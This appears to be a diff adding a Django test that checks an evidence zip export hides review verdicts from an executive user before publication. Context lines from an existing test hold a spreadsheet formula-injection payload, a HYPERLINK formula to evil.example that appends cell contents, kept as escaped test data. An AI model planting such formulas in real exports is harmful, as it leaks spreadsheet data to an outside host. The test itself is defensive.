@@ -87,3 +87,24 @@ def test_the_manifest_does_not_carry_formulas(world):
     manifest = zipfile.ZipFile(stream).read("manifest.csv").decode("utf-8-sig")
     row = list(csv.reader(io.StringIO(manifest)))[1]
     assert row[4] == '\'=HYPERLINK("http://evil.example/"&A2,"open")' and row[5] == "'@SUM(1+1)"
+
+
+def test_an_executives_zip_has_no_verdicts_before_publication(client, world, django_capture_on_commit_callbacks):
+    rec = record(world.a, "1.1.1", "guideline", "2024-03-01")
+    add_link_evidence(world.a, "https://example.go.th/x", user=world.alice, title="แนวทาง", records=[rec])
+    transition(world.a, "R12", "submit", user=world.dan)
+    transition(world.a, "R12", "start_review", user=world.eve)
+    set_verdict(rec, "rejected", reason="ไม่ได้ลงนาม", user=world.eve)
+
+    def manifest_row(user):
+        client.force_login(user)
+        with django_capture_on_commit_callbacks(execute=True):
+            client.post(f"/a/{world.a.pk}/evidence.zip", {"round": "R12"})
+        job = ReportJob.objects.filter(requested_by=user).latest("created_at")
+        archive = zipfile.ZipFile(
+            io.BytesIO(b"".join(client.get(f"/reports/jobs/{job.pk}/download/").streaming_content))
+        )
+        return list(csv.reader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))[1]
+
+    assert manifest_row(world.alice)[7:] == ["ไม่รับรอง", "ไม่ได้ลงนาม"]
+    assert manifest_row(world.xena)[7:] == ["", ""]
